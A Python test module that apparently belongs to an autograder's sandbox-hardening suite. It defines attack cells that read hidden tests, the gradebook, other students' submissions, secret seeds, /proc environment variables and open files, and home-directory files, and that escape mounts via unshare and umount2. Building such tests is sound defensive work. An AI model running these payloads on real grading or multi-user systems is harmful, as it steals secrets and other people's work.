"""Looking for hidden tests, other people's work and secrets."""

from pathlib import Path

from tests.adversarial.attack import Attack, Family
from tests.adversarial.scene import VICTIM, Scene

SHOW = """
import glob
import os
import re
import sys


def show(raw):
    text = raw.decode("utf-8", "replace") if isinstance(raw, bytes) else str(raw)
    for found in sorted(set(re.findall(r"CAN[A]RY_\\w+|(?:ca11ab1e){4}", text))):
        print("found", found)


def show_file(path):
    try:
        with open(path, "rb") as file:
            show(file.read(3_000_000))
    except OSError as error:
        print(type(error).__name__)

"""
"""Prints the secrets that a text or a file holds."""


def _link(folder: Path, scene: Scene) -> None:
    for name, aim in {
        "tests.dat": scene.root / "source" / "target" / "target.ipynb",
        "book.dat": scene.root / "gradebook.db",
        "other.dat": scene.root / "submitted" / VICTIM,
    }.items():
        (folder / name).symlink_to(aim)


def _read(name: str, mechanism: str, code: str, cell: str = "answer_gap") -> Attack:
    return Attack(name, mechanism, {cell: SHOW + code}, stock="reads secrets")


FAMILY = Family(
    "reading what is not the student's",
    [
        _read(
            "own_notebook",
            "the notebook that is being graded, with its hidden tests",
            """
for path in glob.glob("*.ipynb") + glob.glob("../**/*.ipynb", recursive=True):
    show_file(path)
for path in glob.glob("<<course>>/autograded/**/*.ipynb", recursive=True):
    show_file(path)
""",
        ),
        _read(
            "source_folder",
            "model answers and hidden tests in `source/`, by its full path",
            """
show_file("<<course>>/source/target/target.ipynb")
for path in glob.glob("<<course>>/*") + glob.glob("<<course>>/source/**/*"):
    show_file(path)
""",
        ),
        _read(
            "gradebook_text",
            "hidden tests in the gradebook, through SQLite",
            """
import sqlite3

try:
    book = sqlite3.connect("file:<<course>>/gradebook.db?mode=ro", uri=True)
    show(book.execute("SELECT group_concat(source) FROM source_cell").fetchone())
except sqlite3.Error as error:
    print(error)
""",
        ),
        _read(
            "other_submissions",
            "another student's answers",
            """
for folder in ("submitted", "autograded", "feedback"):
    for path in glob.glob(f"<<course>>/{folder}/*/*/*"):
        show_file(path)
""",
        ),
        _read("secret_seed", "the seed of the hidden data", 'show_file("<<course>>/.secret/seed")'),
        _read(
            "hidden_data",
            "hidden data in the cache",
            """
for path in glob.glob("<<cache>>/*"):
    show_file(path)
""",
        ),
        _read(
            "environment",
            "environment variables: its own, and those of every process in /proc",
            """
show(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ"):
    show_file(path)
""",
        ),
        _read(
            "home",
            "files in the grader's home",
            """
show_file("<<home>>/private.txt")
show_file(os.path.expanduser("~/private.txt"))
for path in glob.glob(os.path.expanduser("~/.*")) + glob.glob("/root/*") + glob.glob("/home/*/*"):
    show_file(path)
""",
        ),
        _read(
            "other_processes",
            "working directories, roots and open files of other processes in /proc",
            """
for process in glob.glob("/proc/[0-9]*"):
    for way in ("cwd", "root<<course>>"):
        show_file(f"{process}/{way}/gradebook.db")
        show_file(f"{process}/{way}/.secret/seed")
    for path in glob.glob(f"{process}/fd/*")[:40]:
        if os.path.isfile(path):
            show_file(path)
""",
        ),
        _read(
            "history",
            "texts of the cells that the kernel has been given, and objects in its memory",
            """
import gc

for text in In:
    show(text)
for text in [item for item in gc.get_objects() if isinstance(item, (dict, list))]:
    try:
        for value in list(text.values() if isinstance(text, dict) else text)[:500]:
            if isinstance(value, str):
                show(value)
    except Exception:
        pass
""",
            "function_gap",
        ),
        _read(
            "frames",
            "a function that looks at its callers' variables",
            """
<<answer>>
honest = double


def double(numbers):
    frame = sys._getframe()
    while frame is not None:
        for value in [*frame.f_globals.values(), *frame.f_locals.values()]:
            if isinstance(value, str):
                show(value)
        frame = frame.f_back
    return honest(numbers)
""",
            "function_gap",
        ),
        Attack(
            "links_handed_in",
            "links in the submission's folder that point at tests, gradebook and other people",
            {
                "answer_gap": SHOW
                + """
for path in glob.glob("*.dat") + glob.glob("*.dat/*") + glob.glob("*.dat/*/*"):
    if os.path.isfile(path):
        show_file(path)
"""
            },
            stock="reads secrets",
            files=_link,
        ),
        _read(
            "way_out_of_the_mounts",
            "new user and mount namespaces, /proc/1/root, and devices",
            """
import ctypes

library = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    library.unshare(0x10000000 | 0x00020000)
    library.umount2(b"/proc", 2)
    library.umount2(b"/tmp", 2)
    library.umount2(b"<<course>>", 2)
    show_file("/proc/1/root<<course>>/.secret/seed")
    show_file("<<course>>/.secret/seed")
    show_file("/proc/1/root<<course>>/source/target/target.ipynb")
    sys.stdout.flush()
    os._exit(0)
os.waitpid(pid, 0)
show_file("/proc/1/root<<course>>/.secret/seed")
""",
        ),
    ],
)
